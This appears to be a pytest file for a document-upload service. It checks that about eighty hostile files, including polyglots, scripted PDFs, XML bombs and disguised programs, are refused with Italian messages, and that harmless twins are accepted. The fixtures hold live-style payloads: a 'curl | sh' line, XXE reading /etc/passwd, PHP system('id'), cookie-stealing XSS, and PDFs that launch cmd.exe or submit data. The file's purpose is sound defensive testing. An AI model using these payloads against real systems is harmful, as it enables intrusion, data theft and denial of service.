"""Hostile files, each made here and refused with its own sentence; beside it, the honest twin that is taken."""

import io
from collections.abc import Callable

import pikepdf
import pytest

from applications.operations import uploading
from bando.models import RequiredDocument
from core.refusals import Refused
from tests import papers as p
from tests.factories import NOON, a_draft, a_representative

pytestmark = pytest.mark.django_db

EMPTY = "Il file è vuoto: scegliete quello giusto e caricatelo di nuovo."
LARGE = "Il file supera 10 MB: riducetelo o dividetelo e caricatelo di nuovo."
BEFORE = "Prima dell’inizio del PDF c’è altro contenuto: salvatelo di nuovo con «Stampa in PDF» e caricate la copia."
BEHIND = "Dopo la fine del PDF c’è altro contenuto: salvatelo di nuovo con «Stampa in PDF» e caricate la copia."
ARCHIVE = "Nel PDF è nascosto un archivio: salvatelo di nuovo con «Stampa in PDF» e caricate la copia."
SCRIPT = "Nel PDF è nascosta una pagina web o uno script: salvatelo di nuovo con «Stampa in PDF» e caricate la copia."
ALIVE = (
    "Il PDF contiene azioni automatiche (JavaScript, avvio di programmi, invio di dati, filmati): stampatelo con «Stampa in "
    "PDF» e caricate la copia."
)
XFA = "Il PDF è un modulo XFA, che molti programmi non mostrano: stampatelo con «Stampa in PDF» e caricate la copia."
LOCKED = (
    "Il PDF è protetto da una password o da restrizioni: salvatelo senza protezione, per esempio con «Stampa in PDF», e "
    "caricatelo di nuovo."
)
BROKEN_PDF = "Il PDF è danneggiato e non si apre: salvatelo di nuovo e ricaricatelo."
NO_PAGES = "Il PDF non ha pagine: salvatelo di nuovo e ricaricatelo."
ENORMOUS = (
    "Il PDF, aperto, diventa enorme: salvatelo di nuovo con «Stampa in PDF», o a una risoluzione più bassa, e ricaricatelo."
)
BROKEN_PICTURE = "L’immagine è danneggiata e non si apre: salvatela di nuovo e ricaricatela."
HIDING_PICTURE = "Nell’immagine è nascosto altro contenuto: salvatela di nuovo da un programma di foto e ricaricatela."
HUGE_PICTURE = "L’immagine è troppo grande: al massimo 50 milioni di punti. Riducetela e caricatela di nuovo."
OTHER_PICTURE = "Il file è un’immagine in un formato che non si accetta: salvatela in JPG o PNG e caricatela di nuovo."
OFFICE = "Il file è un archivio o un documento di Office: salvatelo in PDF e caricatelo di nuovo."
PROGRAM = "Il file è un programma e non si accetta: caricate il documento in PDF."
NOTHING = (
    "Il file non è un PDF né un’immagine JPG o PNG, e neppure un XML o un documento firmato p7m: salvatelo in PDF e caricatelo "
    "di nuovo."
)
WEB_PAGE = "Il file è una pagina web (HTML): apritela, stampatela con «Stampa in PDF» e caricate il PDF."
DRAWING = "Il file è un disegno SVG: salvatelo in PDF, PNG o JPG e caricatelo di nuovo."
DOCTYPE = "Il file XML contiene una dichiarazione DOCTYPE e non è stato aperto: caricate l’originale, senza DOCTYPE."
BROKEN_XML = "L’XML è danneggiato e non si legge: scaricate di nuovo l’originale e ricaricatelo."
COMPLEX_XML = "L’XML è troppo complesso per essere letto: caricate un PDF al suo posto."
LIVE_XML = "L’XML contiene una pagina web, un disegno o un programma: caricate un PDF al suo posto."
BROKEN_P7M = "Il file firmato (p7m) è danneggiato e non si apre: firmate di nuovo il documento e caricatelo."
DETACHED = (
    "Il file contiene la sola firma, senza il documento: firmate di nuovo scegliendo il formato p7m con il documento dentro."
)
CIPHERED = "Il file è cifrato e non si può leggere: caricate il documento firmato, non cifrato."
UNSIGNED = "Il file p7m non contiene nessuna firma: firmate il documento e caricate il file che ne esce."
NESTED = "Il file contiene troppi documenti uno dentro l’altro: caricate il documento da solo."


def carried(name: str) -> str:
    return f"Il PDF ha un allegato che non si accetta («{name}»): toglietelo, oppure caricate l’allegato da solo."


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PROGRAM_BYTES = b"MZ\x90\x00" + b"\x00" * 200
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ah"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
REMOTE = b'<?xml version="1.0"?><!DOCTYPE l SYSTEM "http://127.0.0.1:9/l.dtd"><l/>'


def script(made: pikepdf.Pdf) -> None:
    p.opening(S=p.Name.JavaScript, JS=p.String("app.alert('buongiorno')"))(made)


def xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = p.Dictionary(Fields=p.Array([]), XFA=made.make_stream(b"<xdp:xdp/>"))


def mouse_over(made: pikepdf.Pdf) -> None:
    """Deep in a field, not at the door."""
    act = p.Dictionary(S=p.Name.JavaScript, JS=made.make_stream(b"app.launchURL('http://a.example')"))
    p.annotated(Subtype=p.Name.Text, AA=p.Dictionary(E=act))(made)


def without_pages(made: pikepdf.Pdf) -> None:
    del made.pages[0]


def zip_before_the_end() -> bytes:
    """An archive in front of the end mark, where programs that open archives still find it."""
    head, mark, tail = p.a_pdf().rpartition(b"startxref")
    return head + p.an_archive() + b"\n" + mark + tail


def tape_archive() -> bytes:
    """A PDF whose first bytes are the name of a file in a tape archive."""
    comment = b"%PDF-1.7\n%"
    body = p.a_pdf().removeprefix(b"%PDF-1.7\n")
    return comment + b"x" * (257 - len(comment)) + b"ustar\n" + body


def protected(**passwords: str) -> bytes:
    return p.a_pdf(encryption=pikepdf.Encryption(R=6, **passwords))


def torn(content: bytes, share: int = 2) -> bytes:
    return content[: len(content) // share]


def wrong_checksum() -> bytes:
    picture = bytearray(p.a_picture("PNG"))
    picture[picture.index(b"IDAT") + 20] ^= 0xFF
    return bytes(picture)


def with_remark(remark: bytes) -> bytes:
    return p.a_picture("JPEG", comment=remark)


def wrapped(times: int) -> bytes:
    content = p.a_pdf()
    for _ in range(times):
        content = p.enveloped(content)
    return content


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing at all": (lambda: b"", EMPTY),
    "a byte above the limit": (lambda: b"x" * 10_000_001, LARGE),
    # Pages and drawings under another name
    "a web page": (lambda: HTML, WEB_PAGE),
    "a web page behind blank lines": (lambda: b"\n\n\t " + HTML, WEB_PAGE),
    "a web page in wide letters": (lambda: HTML.decode().encode("utf-16"), WEB_PAGE),
    "a drawing": (lambda: SVG, DRAWING),
    "a drawing behind an XML heading": (lambda: b'<?xml version="1.0"?>\n' + SVG, DRAWING),
    # PDFs that are something else as well
    "a GIF before a PDF": (lambda: b"GIF89a" + p.a_pdf(), BEFORE),
    "an archive before a PDF": (lambda: p.an_archive() + p.a_pdf(), BEFORE),
    "a script before a PDF": (lambda: b"alert(1)//" + p.a_pdf(), BEFORE),
    "an archive behind a PDF": (lambda: p.a_pdf() + p.an_archive(), BEHIND),
    "a web page behind a PDF": (lambda: p.a_pdf() + HTML, BEHIND),
    "a program behind a PDF": (lambda: p.a_pdf() + PROGRAM_BYTES, BEHIND),
    "an archive before the end of a PDF": (zip_before_the_end, ARCHIVE),
    "a PDF that is a tape archive": (tape_archive, ARCHIVE),
    "a web page in the remarks of a PDF": (
        lambda: p.by_hand(b"<</Pages 2 0 R>>", p.PAGES, p.PAGE, before=b"%" + HTML + b"\n"), SCRIPT),
    "PHP in the remarks of a PDF": (lambda: p.a_pdf().replace(b"startxref", b"%<?php system('id'); ?>\nstartxref"), SCRIPT),
    # PDFs that act
    "a PDF with a script": (lambda: p.a_pdf(script), ALIVE),
    "a PDF with a script in a table of objects": (
        lambda: p.a_pdf(script, object_stream_mode=pikepdf.ObjectStreamMode.generate), ALIVE),
    "a PDF with a script in disguise": (p.disguised_script, ALIVE),
    "a PDF with a script under the mouse": (lambda: p.a_pdf(mouse_over), ALIVE),
    "a PDF that starts a program": (lambda: p.a_pdf(p.opening(S=p.Name.Launch, F=p.String("cmd.exe"))), ALIVE),
    "a PDF that sends data": (lambda: p.a_pdf(p.opening(S=p.Name.SubmitForm, F=p.String("http://a.example"))), ALIVE),
    "a PDF that fetches data": (lambda: p.a_pdf(p.opening(S=p.Name.ImportData, F=p.String("a.fdf"))), ALIVE),
    "a PDF that opens what it carries": (lambda: p.a_pdf(p.opening(S=p.Name.GoToE, T=p.Dictionary(R=p.Name.C))), ALIVE),
    "a PDF with a player": (lambda: p.a_pdf(p.annotated(Subtype=p.Name.RichMedia)), ALIVE),
    "a PDF that is an XFA form": (lambda: p.a_pdf(xfa), XFA),
    # PDFs that carry
    "a PDF with a program": (lambda: p.a_pdf(p.carrying("fattura.exe", PROGRAM_BYTES)), carried("fattura.exe")),
    "a PDF with an archive": (lambda: p.a_pdf(p.carrying("dati.zip", p.an_archive())), carried("dati.zip")),
    "a PDF with a web page": (lambda: p.a_pdf(p.carrying("leggi.html", HTML)), carried("leggi.html")),
    "a PDF with a command file": (lambda: p.a_pdf(p.carrying("a.sh", b"#!/bin/sh\nid\n")), carried("a.sh")),
    "a PDF with a PDF with a script": (lambda: p.a_pdf(p.carrying("b.pdf", p.a_pdf(script))), carried("b.pdf")),
    "a PDF with a bomb": (lambda: p.a_pdf(p.carrying("c.txt", b" " * 30_000_000)), carried("c.txt")),
    # PDFs that cannot be read
    "a PDF with a password": (lambda: protected(user="segreta", owner="segreta"), LOCKED),
    "a PDF with restrictions": (lambda: protected(user="", owner="segreta"), LOCKED),
    "a PDF torn in two": (lambda: torn(p.a_pdf(pages=20)), BROKEN_PDF),
    "a PDF in name only": (lambda: b"%PDF-1.7 rotto", BROKEN_PDF),
    "a PDF without pages": (lambda: p.a_pdf(without_pages), NO_PAGES),
    "a PDF whose structure is a bomb": (p.bomb_in_the_structure, ENORMOUS),
    "a PDF with a bomb in a bomb": (p.bomb_in_a_bomb, ENORMOUS),
    "a PDF that hides how it is packed": (p.hidden_filter, BROKEN_PDF),
    # Pictures
    "a photo torn in two": (lambda: torn(p.a_picture()), BROKEN_PICTURE),
    "a photo in name only": (lambda: b"\xff\xd8\xff\xe0" + b"x" * 100, BROKEN_PICTURE),
    "a PNG with a wrong byte": (wrong_checksum, BROKEN_PICTURE),
    "an archive behind a photo": (lambda: p.a_picture() + p.an_archive(), HIDING_PICTURE),
    "a PDF behind a photo": (lambda: p.a_picture() + p.a_pdf(), HIDING_PICTURE),
    "a web page in the remarks of a photo": (lambda: with_remark(HTML), HIDING_PICTURE),
    "something behind a PNG": (lambda: p.a_picture("PNG") + b"altro", HIDING_PICTURE),
    "a PNG of a hundred million points": (lambda: p.a_picture("PNG", "1", (10_000, 10_000)), HUGE_PICTURE),
    "a PNG of nine hundred million points": (lambda: p.a_picture("PNG", "1", (30_000, 30_000)), HUGE_PICTURE),
    "a GIF called JPG": (lambda: p.a_picture("GIF"), OTHER_PICTURE),
    "an iPhone’s HEIC called JPG": (lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 60, OTHER_PICTURE),
    # Other files under another name
    "a Word document called PDF": (lambda: p.an_archive("word/document.xml"), OFFICE),
    "an old Word document called PDF": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, OFFICE),
    "an archive of archives": (lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 60, OFFICE),
    "a Windows program called PDF": (lambda: PROGRAM_BYTES, PROGRAM),
    "a Linux program called PDF": (lambda: b"\x7fELF" + b"\x00" * 60, PROGRAM),
    "a command file called PDF": (lambda: b"#!/bin/sh\ncurl http://a.example | sh\n", PROGRAM),
    "plain text called PDF": (lambda: "Perché no?".encode(), NOTHING),
    # XML
    "XML with entities in entities": (lambda: LAUGHS, DOCTYPE),
    "XML that reads a file of ours": (lambda: OUTSIDE, DOCTYPE),
    "XML that calls another machine": (lambda: REMOTE, DOCTYPE),
    "XML that does so in wide letters": (lambda: OUTSIDE.decode().encode("utf-16"), DOCTYPE),
    "XML torn in two": (lambda: torn(b"<a>" + b"<b>c</b>" * 50 + b"</a>"), BROKEN_XML),
    "XML with an entity that nobody has told": (lambda: b"<a>&segreto;</a>", BROKEN_XML),
    "XML a thousand steps deep": (lambda: b"<a>" * 200 + b"</a>" * 200, COMPLEX_XML),
    "XML with a script in it": (
        lambda: b'<a>' + b" " * 3000 + b'<s xmlns="http://www.w3.org/1999/xhtml">alert(1)</s></a>', LIVE_XML),
    "XML that is a program": (
        lambda: b'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"/>', LIVE_XML),
    # Signed files
    "a signature without its document": (lambda: p.detached(p.a_pdf()), DETACHED),
    "a signed program": (lambda: p.enveloped(PROGRAM_BYTES), PROGRAM),
    "a signed PDF with a script": (lambda: p.enveloped(p.a_pdf(script)), ALIVE),
    "a signed web page": (lambda: p.enveloped(HTML), WEB_PAGE),
    "nothing, signed": (lambda: p.enveloped(b""), EMPTY),
    "a signed file torn in two": (lambda: torn(p.enveloped(p.a_pdf())), BROKEN_P7M),
    "something behind a signed file": (lambda: p.enveloped(p.a_pdf()) + HTML, BROKEN_P7M),
    "a ciphered file": (lambda: p.ciphered(p.a_pdf()), CIPHERED),
    "an envelope that nobody has signed": (lambda: p.unsigned(p.a_pdf()), UNSIGNED),
    "a document wrapped six times": (lambda: wrapped(6), NESTED),
    "a hole without a bottom": (lambda: b"\x30\x80" * 200_000, BROKEN_P7M),
}  # fmt: skip


@pytest.fixture
def draft():
    return a_draft()


def refusal(draft, content: bytes, requirement: RequiredDocument | None = None) -> str:
    """The sentence with which it is refused; nothing is kept."""
    by = a_representative(draft.firm)
    with pytest.raises(Refused) as refused:
        uploading.upload(application=draft, requirement=requirement, name="Visura.pdf", content=content, by=by, at=NOON)
    assert not draft.documents.exists()
    return refused.value.reason


@pytest.mark.parametrize("what", HOSTILE)
def test_it_is_refused_with_its_sentence(draft, what: str) -> None:
    make, sentence = HOSTILE[what]
    assert refusal(draft, make()) == sentence


def test_they_are_forty_at_least_and_each_sentence_is_used() -> None:
    assert len(HOSTILE) >= 40
    assert len({sentence for _make, sentence in HOSTILE.values()}) > 25


def test_a_kind_that_the_call_does_not_take_is_refused(draft) -> None:
    asked = draft.call.requireddocuments.get(code="plan")
    sentence = "Per questo documento si accetta: PDF, JPG. Convertite il file e caricatelo di nuovo."
    assert refusal(draft, p.a_picture("PNG"), asked) == sentence
    assert refusal(draft, p.enveloped(p.a_pdf()), asked) == sentence


def test_what_the_call_wants_signed_is_signed_in_one_way_or_the_other(draft) -> None:
    asked = draft.call.requireddocuments.get(code="plan")
    signed = RequiredDocument(pk=asked.pk, call=draft.call, code="plan", formats=["pdf"], signed=True, maximum_bytes=1_000_000)
    sentence = (
        "Questo documento va firmato digitalmente: firmatelo con il vostro programma di firma e caricate il file che ne esce "
        "(PDF firmato o .p7m)."
    )
    assert refusal(draft, p.a_pdf(), signed) == sentence
    by = a_representative(draft.firm)
    for content in (p.signed_inside(p.a_pdf()), p.enveloped(p.a_pdf())):
        uploading.upload(application=draft, requirement=signed, name="Piano", content=content, by=by, at=NOON)
        assert draft.documents.get().size == len(content)


def test_what_is_signed_is_of_a_kind_that_is_taken(draft) -> None:
    asked = RequiredDocument(call=draft.call, formats=["pdf"], signed=True, maximum_bytes=500_000)
    assert uploading.papers.why_not_kind(asked, "p7m", "pdf") is None
    sentence = "Nel file firmato c’è un XML, ma si accetta: PDF. Firmate quello giusto e caricatelo."
    assert uploading.papers.why_not_kind(asked, "p7m", "xml") == sentence
    assert uploading.papers.why_not_kind(RequiredDocument(formats=["p7m"]), "p7m", "xml") is None
    assert uploading.papers.why_not_size(asked, 500_000) is None
    sentence = "Il file supera 0,5 MB: riducetelo o dividetelo e caricatelo di nuovo."
    assert uploading.papers.why_not_size(asked, 500_001) == sentence


def test_a_bomb_is_told_before_it_goes_off(monkeypatch) -> None:
    """The library is never given what would fill the memory."""
    opened = []
    monkeypatch.setattr(pikepdf, "open", lambda *given, **more: opened.append(given))
    for make in (p.bomb_in_the_structure, p.bomb_in_a_bomb, p.hidden_filter):
        with pytest.raises(uploading.filetypes.Unacceptable):
            uploading.filetypes.kind_of(make())
    assert not opened


def test_each_trap_is_the_reason_for_its_refusal(draft) -> None:
    """The same papers without what makes them hostile are taken."""
    by = a_representative(draft.firm)
    twins = [
        p.by_hand(b"<</Type/Catalog/Pages 2 0 R>>", p.PAGES, p.PAGE, p.flate(p.spaces(3_000_000))),
        p.by_hand(b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>", p.PAGES, p.PAGE),
        p.a_pdf(p.carrying("leggi.txt", "perché".encode())),
        p.a_pdf(p.annotated(Subtype=p.Name.Link, A=p.Dictionary(S=p.Name.URI, URI=p.String("http://a.example")))),
        with_remark(b"Bergamo, 2026"), wrapped(2), b"<a>" * 50 + b"</a>" * 50, p.a_picture("PNG", "1", (7000, 7000)),
    ]  # fmt: skip
    for number, content in enumerate(twins):
        uploading.upload(application=draft, requirement=None, name=f"{number}", content=content, by=by, at=NOON)
    assert draft.documents.count() == len(twins)
    assert io.BytesIO(twins[0]).read(4) == b"%PDF"
